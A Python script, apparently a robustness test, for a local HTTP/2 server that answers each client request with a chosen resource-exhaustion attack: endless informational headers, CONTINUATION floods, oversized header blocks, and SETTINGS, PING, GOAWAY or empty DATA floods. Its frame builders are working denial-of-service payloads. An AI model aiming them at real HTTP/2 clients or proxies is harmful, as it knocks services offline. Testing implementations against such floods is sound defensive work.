"""An HTTP/2 server that answers each request with an attack on its client: broken_server.py PORT HOW."""

import itertools
import socket
import struct
import sys
import threading

DATA, HEADERS, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 5, 6, 7, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
OK, EARLY_HINTS = b"\x88", b"\x08\x03103"
LARGE_FIELD = b"\x00\x01x\x7f\x91\x4d" + b"y" * 10_000


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def attack(how, stream):
    """Frames that answer the request on `stream`."""
    head = frame(HEADERS, END_HEADERS, stream, OK)
    if how == "informational":
        return itertools.repeat(frame(HEADERS, END_HEADERS, stream, EARLY_HINTS))
    if how == "large_informational":
        return itertools.repeat(frame(HEADERS, END_HEADERS, stream, EARLY_HINTS + LARGE_FIELD))
    if how == "hints_only":
        return [frame(HEADERS, END_HEADERS, stream, EARLY_HINTS)] * 150
    if how == "continuation":
        return [frame(HEADERS, 0, stream, OK), *[frame(CONTINUATION, 0, stream)] * 1000]
    if how == "large_head":
        return [frame(HEADERS, 0, stream, OK + LARGE_FIELD), *[frame(CONTINUATION, 0, stream, LARGE_FIELD)] * 6,
                frame(CONTINUATION, END_HEADERS, stream, LARGE_FIELD)]
    if how == "many_fields":
        return [frame(HEADERS, END_HEADERS, stream, OK + b"\x00\x01x\x01y" * 1000)]
    if how == "trailers":
        return [head, frame(DATA, 0, stream, b"x"), frame(HEADERS, END_HEADERS | END_STREAM, stream, b"\x00\x01x\x01y" * 1000)]
    if how == "push":
        return [frame(PUSH_PROMISE, END_HEADERS, stream, struct.pack(">I", 2) + b"\x82\x86\x84\x41\x01a")]
    if how == "settings":
        return itertools.repeat(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535) * 2730))
    if how == "pings":
        return itertools.repeat(frame(PING, 0, 0, bytes(8)) * 100)
    if how == "goaways":
        return itertools.repeat(frame(GOAWAY, 0, 0, struct.pack(">II", (1 << 31) - 1, 0)) * 100)
    if how == "empty_data":
        return itertools.chain([head], itertools.repeat(frame(DATA, 0, stream) * 100))
    raise ValueError(how)


def serve(connection, how):
    received = b""
    try:
        connection.sendall(frame(SETTINGS))
        while data := connection.recv(1 << 16):
            received += data
            if received.startswith(b"PRI"):
                if len(received) < 24:
                    continue
                received = received[24:]
            while len(received) >= 9 and len(received) >= 9 + int.from_bytes(received[:3], "big"):
                length, kind, flags, stream = int.from_bytes(received[:3], "big"), *struct.unpack(">BBI", received[3:9])
                received = received[9 + length:]
                if kind == SETTINGS and not flags & ACK:
                    connection.sendall(frame(SETTINGS, ACK))
                elif kind == HEADERS:
                    for piece in attack(how, stream):
                        connection.sendall(piece)
    except OSError:
        pass  # the proxy has had enough
    finally:
        connection.close()


def main():
    port, how = int(sys.argv[1]), sys.argv[2]
    with socket.create_server(("127.0.0.1", port)) as listening:
        while True:
            connection, _ = listening.accept()
            threading.Thread(target=serve, args=(connection, how), daemon=True).start()


main()
